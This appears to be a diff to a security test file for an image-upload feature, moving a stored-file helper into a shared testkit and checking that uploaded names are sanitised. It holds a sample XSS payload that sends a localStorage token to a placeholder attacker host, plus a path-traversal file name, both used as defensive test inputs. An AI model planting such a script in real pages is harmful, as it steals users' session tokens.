@@ -2,13 +2,12 @@ import { once } from 'node:events'
 import { readdirSync } from 'node:fs'
 import { createServer } from 'node:http'
 import type { AddressInfo } from 'node:net'
-import { join } from 'node:path'
 import sharp from 'sharp'
 import { afterAll, describe, expect, it } from 'vitest'
 import { imageAt, imageWidths } from '#contract/listings/images.ts'
 import { aListing } from '#testkit/listings.ts'
 import { aPerson } from '#testkit/people.ts'
-import { aPhonePhoto, aPicture, upload } from '#testkit/pictures.ts'
+import { aPhonePhoto, aPicture, storedFiles, upload } from '#testkit/pictures.ts'
 import { openWorld } from '#testkit/world.ts'
 
 const world = await openWorld()
@@ -17,15 +16,6 @@ const seller = await aPerson(world)
 
 const aDraft = () => aListing(world, seller, { status: 'Draft', pictures: 0 })
 const get = (url: string) => world.app.inject({ method: 'GET', url })
-const storedFiles = () => {
-  try {
-    return readdirSync(join(world.dataDir, 'images'), { recursive: true })
-      .map(String)
-      .filter(name => name.includes('.'))
-  } catch {
-    return []
-  }
-}
 const SCRIPT = '<script>fetch("//evil.example/?"+localStorage.t)</script>'
 
 describe('case 25: files with a false type', () => {
@@ -114,8 +104,8 @@ describe('case 28: file names and foreign picture addresses', () => {
       await world.api('PUT /deadstock/:id', { params: { id }, body: { data: { images: [] } } }, seller)
     }
     await upload(world, id, [{ content: await aPicture(), name: '../../x.jpg' }], seller)
-    expect(storedFiles().length).toBeGreaterThan(0)
-    for (const file of storedFiles()) expect(file).toMatch(/^[0-9a-f]{2}\/[0-9a-f-]{36}-(320|640|1280)\.webp$/)
+    expect(storedFiles(world).length).toBeGreaterThan(0)
+    for (const file of storedFiles(world)) expect(file).toMatch(/^[0-9a-f]{2}\/[0-9a-f-]{36}-(320|640|1280)\.webp$/)
     expect(readdirSync(world.dataDir)).toEqual(['images'])
   })
 
